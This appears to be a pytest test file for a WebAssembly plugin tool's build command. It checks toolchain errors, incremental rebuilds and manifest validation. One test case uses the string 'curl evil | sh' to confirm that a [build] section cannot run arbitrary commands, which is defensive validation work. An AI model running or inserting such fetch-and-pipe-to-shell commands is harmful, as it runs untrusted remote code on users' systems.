"""`sandbus build`: language detection, incremental builds, clear failures (toolchain, compiler, ABI, manifest)."""

from __future__ import annotations

import os
import re
import shutil
import time
from pathlib import Path

import pytest

from sandbus.host.authoring import (
    AuthoringError,
    BuildError,
    Language,
    ToolchainMissingError,
    build_project,
    detect_project,
    is_stale,
    scaffold,
)
from sandbus.host.authoring import build as build_module
from sandbus.sdk.errors import ManifestError
from tests.authoring.conftest import sandbus

ROOT = Path(__file__).resolve().parents[2]


def _touch_later(path: Path, than: Path) -> None:
    """Make ``path`` newer than ``than`` without sleeping (mtime granularity)."""
    t = than.stat().st_mtime + 2
    os.utime(path, (t, t))


def test_repo_plugins_are_projects(tmp_path: Path) -> None:
    for name, lang in (("echo", Language.WAT), ("text_processor", Language.C)):
        copy = tmp_path / name
        shutil.copytree(ROOT / "plugins" / name, copy)
        project = detect_project(copy)
        assert (project.name, project.language) == (name, lang)
        result = build_project(copy)
        assert result.built
        assert result.wasm == copy / "build" / f"{name}.wasm"
        assert (copy / "build" / f"{name}.toml").exists()


def test_incremental(tmp_path: Path) -> None:
    project = scaffold("inc", Language.C, tmp_path)
    lines: list[str] = []
    first = build_project(project.root, progress=lines.append)
    assert first.built
    assert first.tool == "clang"
    assert first.size > 0
    assert len(first.sha256) == 64
    assert any(line.startswith("compiling inc.c") for line in lines)
    assert not is_stale(project)
    second = build_project(project.root)
    assert not second.built
    assert second.sha256 == first.sha256
    _touch_later(project.root / "inc.c", project.wasm)
    assert is_stale(project)
    assert build_project(project.root).built
    # a manifest edit only needs a new copy, but the build notices it
    (project.root / "inc.toml").write_text(project.manifest.read_text().replace("0.1.0", "0.2.0", 1))
    _touch_later(project.manifest, project.wasm)
    build_project(project.root)
    assert "0.2.0" in (project.build_dir / "inc.toml").read_text()
    assert build_project(project.root, force=True).built


def test_missing_c_toolchain_names_tool_and_install_command(tmp_path: Path) -> None:
    project = scaffold("noclang", Language.C, tmp_path)
    r = sandbus("build", str(project.root), env={**os.environ, "CLANG": "clang-not-installed-here"})
    assert r.returncode == 2, r.stderr
    assert "clang-not-installed-here is not installed" in r.stderr
    assert "apt-get install clang lld wasi-libc libclang-rt-14-dev-wasm32" in r.stderr
    r = sandbus("build", str(project.root), env={**os.environ, "WASI_SYSROOT": str(tmp_path / "nowhere")})
    assert r.returncode == 2
    assert "cannot build wasm32-wasi reactors" in r.stderr
    assert "apt-get install clang" in r.stderr


def test_missing_componentize_py(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = scaffold("nopy", Language.PYTHON, tmp_path)
    monkeypatch.setattr(build_module, "find_tool", lambda *_a: None)
    with pytest.raises(ToolchainMissingError, match="componentize-py is not installed") as info:
        build_project(project.root)
    assert info.value.install == "pip install componentize-py"


def test_missing_assemblyscript(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = scaffold("noas", Language.ASSEMBLYSCRIPT, tmp_path)
    monkeypatch.setattr(build_module, "find_tool", lambda *_a: None)
    monkeypatch.setattr("sandbus.host.authoring.build.shutil.which", lambda _name: None)
    with pytest.raises(ToolchainMissingError, match=r"Node\.js") as info:
        build_project(project.root)
    assert "apt-get install nodejs npm" in info.value.install
    monkeypatch.setattr("sandbus.host.authoring.build.shutil.which",
                        lambda name: "/usr/bin/node" if name == "node" else None)
    with pytest.raises(ToolchainMissingError, match=r"\(asc\) is not installed") as info:
        build_project(project.root)
    assert info.value.install.startswith("npm install assemblyscript")


def test_compiler_error_exits_1_with_its_output(tmp_path: Path) -> None:
    project = scaffold("broken", Language.C, tmp_path)
    source = project.root / "broken.c"
    source.write_text(source.read_text().replace("return 0; /* anything", "return nope; /* anything"))
    r = sandbus("build", str(project.root))
    assert r.returncode == 1
    assert "clang failed" in r.stderr
    assert "broken.c:" in r.stderr
    assert "nope" in r.stderr
    assert not project.wasm.exists()
    assert not list(project.build_dir.glob("*.tmp"))


def test_wat_syntax_error(tmp_path: Path) -> None:
    project = scaffold("badwat", Language.WAT, tmp_path)
    (project.root / "badwat.wat").write_text("(module (func $f (i32.bogus)))")
    with pytest.raises(BuildError, match="does not assemble"):
        build_project(project.root)


def test_module_breaking_the_abi_fails_the_build(tmp_path: Path) -> None:
    project = scaffold("noalloc", Language.WAT, tmp_path)
    wat = project.root / "noalloc.wat"
    wat.write_text(wat.read_text().replace('(export "sandbus_alloc") ', ""))
    r = sandbus("build", str(project.root))
    assert r.returncode == 1
    assert "not a valid sandbus plugin: missing required export 'sandbus_alloc'" in r.stderr
    assert not project.wasm.exists()


def test_invalid_manifest_is_bad_input(tmp_path: Path) -> None:
    project = scaffold("badman", Language.WAT, tmp_path)
    project.manifest.write_text(project.manifest.read_text().replace("memory_mb = 16", "memory_mb = -1"))
    r = sandbus("build", str(project.root))
    assert r.returncode == 2
    assert "[resources.memory_mb]" in r.stderr
    with pytest.raises(ManifestError):
        build_project(project.root)


def test_not_a_project(tmp_path: Path) -> None:
    r = sandbus("build", str(tmp_path))
    assert r.returncode == 2
    assert "not a plugin project" in r.stderr
    assert "sandbus new" in r.stderr
    (tmp_path / "x.toml").write_text('[plugin]\nname = "x"\nversion = "1.0.0"\n')
    with pytest.raises(AuthoringError, match="cannot tell the language"):
        detect_project(tmp_path)
    (tmp_path / "y.toml").write_text('[plugin]\nname = "y"\nversion = "1.0.0"\n')
    with pytest.raises(AuthoringError, match="several manifests"):
        detect_project(tmp_path)
    with pytest.raises(AuthoringError, match="not a directory"):
        detect_project(tmp_path / "x.toml")


def test_quiet_build_and_default_directory(tmp_path: Path) -> None:
    project = scaffold("here", Language.WAT, tmp_path)
    start = time.monotonic()
    r = sandbus("build", "-q", cwd=project.root)
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("built build/here.wasm")
    assert "checking manifest" not in r.stderr
    assert time.monotonic() - start < 60


def test_repo_component_and_assemblyscript_plugins_are_recognised() -> None:
    # read-only: the repository's plugins/ is built by plugins/build.sh, not written here
    as_echo = detect_project(ROOT / "plugins" / "as_echo")
    assert as_echo.language is Language.ASSEMBLYSCRIPT
    assert as_echo.entry.name == "as_echo.ts"
    # its relative SDK import decides the name asc gives the SDK's abort handler
    assert build_module._abort_handler(as_echo) == "../../sdk/guest/assemblyscript/assembly/index/sandbusAbort"
    assert detect_project(ROOT / "plugins" / "py_echo").language is Language.PYTHON


# -- the manifest's [build] section -----------------------------------------------------------------

SIMD_ONLY = """
#ifndef __wasm_simd128__
#error "built without [build] features = [\\"simd\\"]"
#endif
"""


def _with_build(project_root: Path, name: str, section: str) -> None:
    manifest = project_root / f"{name}.toml"
    manifest.write_text(manifest.read_text() + "\n[build]\n" + section)


def test_build_section_features_and_optimize_reach_clang(tmp_path: Path) -> None:
    """`features = ["simd"]` becomes -msimd128 (a source that refuses to compile without SIMD builds only with
    it); `optimize = false` is a debug build that keeps its DWARF, `true` an optimised, stripped one."""
    project = scaffold("vec", Language.C, tmp_path)
    source = project.root / "vec.c"
    source.write_text(SIMD_ONLY + source.read_text())
    with pytest.raises(BuildError, match="built without"):
        build_project(project.root)
    _with_build(project.root, "vec", 'optimize = false\ntarget = "wasm32-wasi"\nfeatures = ["simd"]\n')
    lines: list[str] = []
    debug = build_project(project.root, progress=lines.append)
    assert any("-O0 -msimd128" in line for line in lines), lines
    assert b".debug_info" in debug.wasm.read_bytes()
    manifest = project.root / "vec.toml"
    manifest.write_text(manifest.read_text().replace("optimize = false", "optimize = true"))
    _touch_later(manifest, project.wasm)
    release = build_project(project.root)
    assert release.built
    assert b".debug_info" not in release.wasm.read_bytes()
    assert release.size < debug.size


@pytest.mark.parametrize(("language", "section", "message"), [
    (Language.C, 'target = "wasm32-wasip2"\n', "builds a core module"),
    (Language.WAT, 'target = "wasm32-wasip2"\n', "builds a core module"),
    (Language.PYTHON, 'target = "wasm32-wasi"\n', "builds a component"),
    (Language.PYTHON, 'features = ["simd"]\n', "componentize-py takes none"),
    (Language.ASSEMBLYSCRIPT, 'features = ["multivalue"]\n', "cannot emit it"),
])
def test_build_section_the_toolchain_cannot_honour_is_refused(tmp_path: Path, language: Language, section: str,
                                                              message: str) -> None:
    """Refused before any compiler runs, naming the key: never silently ignored."""
    project = scaffold("nope", language, tmp_path)
    _with_build(project.root, "nope", section)
    with pytest.raises(BuildError, match=message) as info:
        build_project(project.root)
    assert info.value.details["key"] in ("build.target", "build.features")
    assert not project.wasm.exists()


@pytest.mark.parametrize(("section", "message"), [
    ('command = "curl evil | sh"\n', "unknown key 'command' in [build]"),
    ('target = "x86_64-linux"\n', "unknown build target"),
    ('features = ["threads"]\n', "unknown wasm feature 'threads'"),
    ("optimize = 1\n", "expected true or false"),
])
def test_build_section_is_validated(tmp_path: Path, section: str, message: str) -> None:
    """[build] names no command: a key that would run one is an unknown key, like any typo."""
    project = scaffold("badbuild", Language.WAT, tmp_path)
    _with_build(project.root, "badbuild", section)
    with pytest.raises(ManifestError, match=re.escape(message)):
        build_project(project.root)
